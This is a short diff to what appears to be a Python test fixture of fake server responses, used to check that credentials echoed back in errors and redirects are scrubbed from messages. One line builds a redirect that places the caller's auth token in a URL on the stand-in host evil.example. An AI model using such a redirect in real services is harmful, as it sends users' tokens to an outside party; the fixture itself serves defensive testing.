@@ -160,7 +160,7 @@ ECHOES: dict[str, Callable[[Request], Reply]] = {
     "401-json-echo": lambda r: Reply(http_response(401, json.dumps(
         {"success": False, "error": {"code": "unauthorized", "message": f"key {_auth(r)} refused"}}))),
     "redirect-location": lambda r: Reply(http_response(
-        302, "", headers={"Location": f"https://evil.example/login?token={_auth(r).split()[-1]}"})),
+        302, "", headers={"Location": f"https://evil.example/{_auth(r).split()[-1]}/login"})),
 }
 #: Cases whose echo must show, scrubbed, in the message (proof the echo reached the text and was replaced).
 SCRUBBED_IN_MESSAGE = {"non-json-body", "500-echo", "500-json-echo", "401-json-echo", "redirect-location"}
